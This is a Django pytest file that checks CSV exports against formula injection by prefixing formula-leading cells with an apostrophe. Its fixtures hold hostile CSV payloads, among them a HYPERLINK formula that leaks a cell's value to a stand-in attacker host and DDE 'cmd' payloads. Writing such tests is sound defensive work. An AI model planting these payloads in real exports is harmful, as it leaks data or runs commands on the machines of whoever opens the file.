"""No cell of a CSV the app writes is a formula (OWASP "CSV injection"), headers included.

Every user-typed text that reaches a CSV starts with a formula character here: the free-text
account dimensions (industry, country, region) and a saved segment's name, which heads the
export's first column too. The routes are found by the URL resolver, so a new CSV download is
covered the day it is added, and no app module writes CSV except through ``common.csv_safe``.
"""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver

from common.csv_safe import FORMULA_STARTS, safe_cell
from insights_app.services import insights_recompute
from tests.factories import AccountFactory, DealFactory, SegmentFactory

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
APPS = (
    "common",
    "accounts_app",
    "personas_app",
    "deals_app",
    "crm_app",
    "insights_app",
    "conversations_app",
    "demo_app",
    "config",
)
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
PAYLOADS = {
    "industry": HYPERLINK,
    "country": "+cmd|' /C calc'!A0",
    "region": "-2+3",
    "segment": "@SUM(1+1)*cmd|' /C calc'!A0",
}
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
DIMENSIONS = (
    "industry",
    "size_band",
    "country",
    "region",
    "deployment_model",
    "infrastructure",
    "lifecycle",
)
EXPORTS = {"dashboard/export.csv"}  # every CSV route, each requested below


def _routes(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _routes(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern)


def assert_no_formula(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell), (cell, row)
    return rows


@pytest.fixture
def exec_client(client, member):
    client.force_login(member("exec"))
    return client


@pytest.fixture
def hostile(workspace):
    """Accounts whose free-text fields and a segment whose name start with formulas; one lost
    deal with a cost of sale, so the ROI is negative (-1.0) and must stay a number."""
    account = AccountFactory.create(
        workspace=workspace,
        name="=1+1",
        industry=PAYLOADS["industry"],
        country=PAYLOADS["country"],
        region=PAYLOADS["region"],
    )
    DealFactory.create(
        account=account,
        name="@deal",
        stage="closed_lost",
        loss_reason="price",
        amount=Decimal("100"),
        cost_of_sale=Decimal("10"),
    )
    DealFactory.create(account=account, name="-deal", stage="proposal", amount=Decimal("50"))
    segment = SegmentFactory.create(
        workspace=workspace, name=PAYLOADS["segment"], filters={"industry": PAYLOADS["industry"]}
    )
    insights_recompute(workspace_id=workspace.pk, force=True)
    return segment


def test_every_csv_route_is_requested_here():
    csv_routes = {route for route in _routes(get_resolver().url_patterns) if ".csv" in route}
    assert csv_routes == EXPORTS


def test_no_app_module_writes_csv_past_the_guard():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(ROOT))
        for app in APPS
        for path in (ROOT / app).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["common/csv_safe.py"]


@pytest.mark.parametrize("dimension", DIMENSIONS)
def test_the_dashboard_export_of_every_dimension_has_no_formula(exec_client, hostile, dimension):
    export = exec_client.get("/dashboard/export.csv", {"dimension": dimension})
    assert export.status_code == 200
    rows = assert_no_formula(export.content.decode())
    assert rows[0][0] == dimension.replace("_", " ")
    if dimension in PAYLOADS:  # the value shows as text, apostrophe first
        assert [row[0] for row in rows[1:]] == ["'" + PAYLOADS[dimension]]


def test_a_segment_name_is_defused_in_the_header_and_the_rows(exec_client, hostile):
    export = exec_client.get("/dashboard/export.csv", {"dimension": f"segment:{hostile.pk}"})
    header, *lines = assert_no_formula(export.content.decode())
    assert header[0] == "'" + PAYLOADS["segment"].lower()
    assert [line[0] for line in lines] == ["'" + PAYLOADS["segment"]]
    table = dict(zip(header, lines[0], strict=True))
    assert table["roi"] == "-1.0"  # a negative number is no formula: left as it is
    assert Decimal(table["pipeline"]) == Decimal("50")


def test_a_semicolon_cannot_start_a_cell_in_a_semicolon_locale(exec_client, workspace):
    AccountFactory.create(workspace=workspace, industry="Retail;=1+1")
    insights_recompute(workspace_id=workspace.pk, force=True)
    text = exec_client.get("/dashboard/export.csv", {"dimension": "industry"}).content.decode()
    assert '"Retail;=1+1"' in text  # every cell is quoted: the ; stays inside its cell
    assert [row[0] for row in assert_no_formula(text)[1:]] == ["Retail;=1+1"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e5", "-1e5"),
        (-1.5, "-1.5"),
        (Decimal("-30.00"), "-30.00"),
        (None, ""),
        ("Retail", "Retail"),
        ("a=b", "a=b"),
    ],
)
def test_a_cell_is_text_unless_it_is_a_number(value, cell):
    assert safe_cell(value) == cell
